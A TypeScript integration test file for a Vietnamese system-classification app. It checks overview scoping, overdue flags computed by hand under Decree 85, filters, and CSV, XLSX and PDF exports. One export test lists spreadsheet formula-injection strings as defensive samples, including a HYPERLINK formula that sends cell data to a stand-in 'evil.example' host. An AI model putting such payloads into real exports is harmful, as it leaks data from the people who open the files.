// The governing body's overview against a real database: a seeded province (golden-case facts
// classified by the engine) next to the two-body fixture; scope, filters, overdue flags for a fixed
// clock against due days computed by hand, and the exports parsed back.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { overviewCsv, overviewPdf, overviewXlsx } from '../../src/lib/server/overview/export';
import {
	overviewRows,
	overviewScope,
	overviewStats,
	parseFilters,
	type OverviewInput
} from '../../src/lib/server/overview/query';
import { seedProvince } from '../../src/lib/server/overview/seed';
import { bundledRuleSets } from '../../src/lib/server/ruleset-files';
import { classifySystem, createSystem, submitSystem } from '../../src/lib/server/workflow/service';
import type { Level } from '../../src/lib/rules';
import { freshDatabase, level2Record, PASSWORD, RULESET, seed, type Seeded } from './fixtures';

const rulesets = bundledRuleSets().rulesets;
const rs = rulesets.find((r) => r.ref === RULESET)!;
let d: Awaited<ReturnType<typeof freshDatabase>>;
let s: Seeded;
let province: Awaited<ReturnType<typeof seedProvince>>;
// A fixed clock: 12:00 on Friday 20/3/2026 in Hà Nội. The seeded dossiers were submitted at 11:00
// Hà Nội time, 0 to 119 days earlier.
const now = new Date('2026-03-20T05:00:00Z');

beforeAll(async () => {
	d = await freshDatabase();
	s = await seed(d);
	const { id } = await createSystem(s.ctx('unitA'), level2Record('Quản lý văn bản Sở Tài chính P'));
	await classifySystem(s.ctx('unitA'), id);
	await submitSystem(s.ctx('unitA'), id);
	province = await seedProvince(d.db, {
		units: 12,
		systemsPerUnit: 10,
		ruleset: rs,
		password: PASSWORD,
		prefix: 'gl-',
		now
	});
}, 120_000);
afterAll(() => d?.cleanup());

const input = (scope: OverviewInput['scope'], q = ''): OverviewInput => ({
	scope,
	filters: parseFilters(new URLSearchParams(q)),
	rulesets,
	now
});

describe('scope', () => {
	it('an appraiser sees its body’s units only; the administrator all; a unit nothing', async () => {
		expect(overviewScope(s.users.unitA)).toBe('none');
		expect(overviewScope(s.users.maintainer)).toBe('none');
		const p = await overviewRows(d.db, input(overviewScope(s.users.appraiser) as never), true);
		expect(p.rows.map((r) => r.name)).toEqual(['Quản lý văn bản Sở Tài chính P']);
		const q = await overviewRows(d.db, input(overviewScope(s.users.otherAppraiser) as never), true);
		expect(q.total).toBe(0);
		const gl = await overviewRows(d.db, input({ body_id: province.body_id }), true);
		expect(gl.total).toBe(120);
		expect(new Set(gl.rows.map((r) => r.unit_id))).toEqual(new Set(province.unit_ids));
		const all = await overviewRows(d.db, input('all'), true);
		expect(all.total).toBe(121);
	});
});

describe('levels, statuses and overdue reviews', () => {
	it('levels are the engine’s: each row’s computed level equals evaluate() of its stored facts', async () => {
		const { rows } = await overviewRows(d.db, input({ body_id: province.body_id }), true);
		const records = await d.db.selectFrom('systems').select(['id', 'record']).execute();
		const byId = new Map(records.map((r) => [r.id, r.record as { facts: never; name: string }]));
		const { evaluate } = await import('../../src/lib/rules');
		for (const r of rows.filter((x) => x.status !== 'draft')) {
			const rec = byId.get(r.id)!;
			const e = evaluate(rs, { name: rec.name, facts: rec.facts, components: [] });
			expect(e.ok && e.value.level).toBe(r.computed_level);
		}
		expect(new Set(rows.map((r) => r.status)).size).toBeGreaterThanOrEqual(5);
	});

	// Decree 85 (vn-nd85@tt03-2017), counted by hand on the 2026 calendar; the day of submission is
	// not counted (Bộ luật Dân sự Điều 147), a calendar-day period ending on a day off moves to the
	// next working day (Điều 148 khoản 5). Overdue on 20/3 means the first due day is 19/3 or earlier:
	// - levels 1–2: approval in 07 working days (Điều 17 khoản 2): submitted Tue 10/3 → due Thu 19/3
	//   (no public holiday in March 2026); submitted Wed 11/3 → due Fri 20/3, not yet overdue;
	// - level 3: appraisal in 15 days (Điều 16 khoản 2 điểm a): submitted Wed 4/3 → due Thu 19/3;
	// - levels 4–5: appraisal in 30 days (Điều 16 khoản 2 điểm b): submitted Tue 17/2 → due Thu 19/3.
	const LAST_OVERDUE_SUBMISSION: Record<Level, string> = {
		1: '2026-03-10',
		2: '2026-03-10',
		3: '2026-03-04',
		4: '2026-02-17',
		5: '2026-02-17'
	};
	const hanoiDay = (iso: string) =>
		new Date(new Date(iso).getTime() + 7 * 3_600_000).toISOString().slice(0, 10);

	it('overdue: exactly the undecided dossiers submitted on or before the hand-computed day', async () => {
		const { rows } = await overviewRows(d.db, input({ body_id: province.body_id }), true);
		const seen = { overdue: 0, onTime: 0, decidedLate: 0 };
		for (const r of rows) {
			const undecided = r.status === 'submitted' || r.status === 'under_review';
			const late =
				r.submitted_at !== null &&
				r.proposed_level !== null &&
				hanoiDay(String(r.submitted_at)) <= LAST_OVERDUE_SUBMISSION[r.proposed_level as Level];
			expect(r.overdue, `${r.name} ${r.status} L${r.proposed_level} ${r.submitted_at}`).toBe(
				undecided && late
			);
			if (undecided && late) seen.overdue++;
			else if (undecided) seen.onTime++;
			else if (late) seen.decidedLate++;
		}
		// The seeded province has each kind, so the check above could fail both ways.
		expect(seen.overdue).toBeGreaterThan(0);
		expect(seen.onTime).toBeGreaterThan(0);
		expect(seen.decidedLate).toBeGreaterThan(0);
	});

	it('filters narrow the rows and the charts alike; search ignores case and finds Vietnamese', async () => {
		const scope = { body_id: province.body_id };
		const stats = await overviewStats(d.db, input(scope));
		expect(stats.systems).toBe(120);
		expect(stats.units).toBe(12);
		for (const status of ['approved', 'under_review', 'draft'] as const) {
			const r = await overviewRows(d.db, input(scope, `status=${status}`), true);
			expect(r.total).toBe(stats.byStatus[status]);
			expect(r.rows.every((x) => x.status === status)).toBe(true);
		}
		for (const level of [0, 1, 2, 3]) {
			const r = await overviewRows(d.db, input(scope, `level=${level}`), true);
			expect(r.total).toBe(stats.byLevel[level]);
		}
		const od = await overviewRows(d.db, input(scope, 'overdue=yes'), true);
		expect(od.total).toBe(stats.overdue);
		expect(od.rows.every((x) => x.overdue)).toBe(true);
		const unit = province.unit_ids[3]!;
		const byUnit = await overviewStats(d.db, input(scope, `unit=${unit}`));
		expect(byUnit.units).toBe(1);
		expect(byUnit.systems).toBe(10);
		const search = await overviewRows(d.db, input(scope, 'q=CỔNG THÔNG TIN'), true);
		expect(search.total).toBeGreaterThan(0);
		expect(search.rows.every((x) => /Cổng thông tin/.test(x.name))).toBe(true);
		// A LIKE wildcard in the search is literal.
		expect((await overviewRows(d.db, input(scope, 'q=%25'), true)).total).toBe(0);
		const page2 = await overviewRows(d.db, input(scope, 'page=3'));
		expect(page2.rows.length).toBe(20);
	});
});

describe('exports', () => {
	let rows: Awaited<ReturnType<typeof overviewRows>>['rows'];
	beforeAll(async () => {
		rows = (await overviewRows(d.db, input({ body_id: province.body_id }, 'status=approved'), true))
			.rows;
	});

	it('CSV: UTF-8 with BOM, a header and one line per filtered system, diacritics intact', () => {
		const bytes = overviewCsv(rows, 'vi');
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const parsed = parse(Buffer.from(bytes), { bom: true }) as string[][];
		expect(parsed[0]![0]).toBe('Đơn vị');
		expect(parsed[0]![5]).toBe('Trạng thái hồ sơ');
		expect(parsed.length).toBe(rows.length + 1);
		expect(parsed.slice(1).every((l) => l[5] === 'Đã phê duyệt')).toBe(true);
		expect(parsed.slice(1).map((l) => l[1])).toEqual(rows.map((r) => r.name));
	});

	it('CSV and XLSX: a cell that a spreadsheet would run as a formula stays text', async () => {
		const evil = [
			'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
			'+1+1',
			'-2+3',
			'@SUM(1,1)',
			'\t=1+1',
			'\r=1+1'
		];
		const tricky = evil.map((name, i) => ({ ...rows[0]!, name, approval_number: i ? null : '-5' }));
		const parsed = parse(Buffer.from(overviewCsv(tricky, 'vi')), { bom: true }) as string[][];
		expect(parsed.slice(1).map((l) => l[1])).toEqual(evil.map((n) => `'${n}`));
		// Numbers are numbers, not formulas: a level stays unquoted.
		expect(parsed[1]![4]).toBe(String(rows[0]!.approved_level));
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(Buffer.from(await overviewXlsx(tricky, 'vi')) as never);
		const cell = wb.worksheets[0]!.getRow(2).getCell(2);
		expect(cell.type).toBe(ExcelJS.ValueType.String);
		expect(cell.formula).toBeUndefined();
	});

	it('XLSX: the same rows read back with exceljs', async () => {
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(Buffer.from(await overviewXlsx(rows, 'vi')) as never);
		const ws = wb.worksheets[0]!;
		expect(ws.name).toBe('Hệ thống');
		expect(ws.getRow(1).getCell(1).value).toBe('Đơn vị');
		expect(ws.rowCount).toBe(rows.length + 1);
		expect(ws.getRow(2).getCell(1).value).toBe(rows[0]!.unit_name);
		expect(ws.getRow(2).getCell(5).value).toBe(rows[0]!.approved_level);
	});

	it('PDF: pdftotext finds the title, Vietnamese labels and the counts', async () => {
		const stats = await overviewStats(d.db, input({ body_id: province.body_id }));
		const pdf = await overviewPdf(
			stats,
			{ scope: 'Ủy ban nhân dân tỉnh Gia Lai', filters: '', generated: 'Lập lúc 2026-01-01' },
			'vi'
		);
		const dir = mkdtempSync(join(tmpdir(), 'capdo-ov-'));
		writeFileSync(join(dir, 'o.pdf'), pdf);
		const text = execFileSync('pdftotext', ['-layout', join(dir, 'o.pdf'), '-'], {
			encoding: 'utf8'
		});
		expect(text).toContain('Tổng hợp cấp độ các hệ thống thông tin');
		expect(text).toContain('Ủy ban nhân dân tỉnh Gia Lai');
		expect(text).toContain('Số hệ thống theo trạng thái hồ sơ');
		expect(text).toMatch(new RegExp(`Đã phê duyệt\\s+${stats.byStatus.approved}\\b`));
		expect(text).toMatch(new RegExp(`Quá hạn\\s+${stats.overdue}\\b`));
		expect(text).toContain(`${stats.units} đơn vị, ${stats.systems} hệ thống`);
	});
});
